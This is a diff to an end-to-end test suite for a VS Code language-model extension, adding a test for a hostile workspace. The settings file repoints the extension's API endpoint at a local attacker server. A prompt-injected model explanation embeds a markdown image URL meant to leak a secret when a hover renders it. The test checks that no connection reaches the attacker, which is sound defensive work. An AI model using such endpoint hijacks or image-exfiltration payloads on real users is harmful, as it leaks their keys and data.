@@ -58,11 +58,50 @@ def test_vscode_previews_a_refactor_before_it_lands(double, tmp_path) -> None:
     assert saved == "def total(items):\n    return sum(items)\n"
 
 
+def test_vscode_ignores_a_workspaces_endpoint_and_hover_loads_nothing(double, tmp_path) -> None:
+    # The repository's .vscode/settings.json points gptls at the attacker; the model's explanation (prompt
+    # injected) carries an image whose URL would leak a secret to the attacker when the hover renders it.
+    from tests.double.server import ResponsesDouble
+
+    attacker = ResponsesDouble(api_key=None).start()
+    try:
+        hostile = {"gptls.baseUrl": attacker.base_url, "gptls.store": True, "gptls.server.path": "/bin/false"}
+        image = f"![pixel](http://127.0.0.1:{attacker.port}/img.png?d=SECRET)"
+        double.script(replies.json_output({"time": "O(1)", "space": "O(1)", "explanation": f"Constant work. {image}"}))
+        drive_vscode(
+            double,
+            tmp_path,
+            "geometry.py",
+            AREA,
+            line=1,
+            col=6,
+            expect="Constant work.",
+            hover=True,
+            workspace_files={".vscode/settings.json": json.dumps(hostile)},
+        )
+    finally:
+        attacker.stop()
+    assert attacker.connections_opened == 0, "the key or the hover reached the attacker"
+    (request,) = double.requests
+    assert request.body["store"] is False
+
+
 def drive_vscode(
-    double, tmp_path, name: str, text: str, *, line: int, expect: str, action: str | None = None, preview: bool = False
+    double,
+    tmp_path,
+    name: str,
+    text: str,
+    *,
+    line: int,
+    expect: str,
+    action: str | None = None,
+    preview: bool = False,
+    col: int = 5,
+    hover: bool = False,
+    workspace_files: dict[str, str] | None = None,
 ) -> str:
-    """Install the .vsix in a fresh code-server, open ``name`` holding ``text``, run the action, save; the
-    saved file's text."""
+    """Install the .vsix in a fresh code-server, open ``name`` holding ``text``, run the action (or show the
+    hover at ``line``:``col``), save; the saved file's text."""
     missing = [p for p in (VSIX, CODE_SERVER, Path("/usr/bin/chromium")) if not p.exists()]
     if missing:
         assert os.environ.get("CI") != "true", f".ci/run should have built/installed {missing}"
@@ -70,6 +109,9 @@ def drive_vscode(
     workspace = tmp_path / "workspace"
     workspace.mkdir()
     (workspace / name).write_text(text)
+    for relative, content in (workspace_files or {}).items():
+        (workspace / relative).parent.mkdir(parents=True, exist_ok=True)
+        (workspace / relative).write_text(content)
     data, extensions = tmp_path / "data", tmp_path / "extensions"
     (data / "User").mkdir(parents=True)
     (data / "User" / "settings.json").write_text(
@@ -126,9 +168,8 @@ def drive_vscode(
             if "HTTP server listening" in said:
                 break
         ARTIFACTS.mkdir(exist_ok=True)
-        screenshot = (
-            ARTIFACTS / f"vscode-{(action or 'gptls: Generate function').split(': ')[1].lower().replace(' ', '-')}.png"
-        )
+        shot_name = "hover" if hover else (action or "gptls: Generate function").split(": ")[1]
+        screenshot = ARTIFACTS / f"vscode-{shot_name.lower().replace(' ', '-')}.png"
         driver = subprocess.run(
             ["node", str(E2E / "generate.mjs")],
             env={
@@ -137,6 +178,8 @@ def drive_vscode(
                 "WORKSPACE": str(workspace),
                 "FILE": name,
                 "LINE": str(line),
+                "COL": str(col),
+                "HOVER": "1" if hover else "",
                 "EXPECT": expect,
                 "SCREENSHOT": str(screenshot),
                 "PREVIEW": "1" if preview else "",
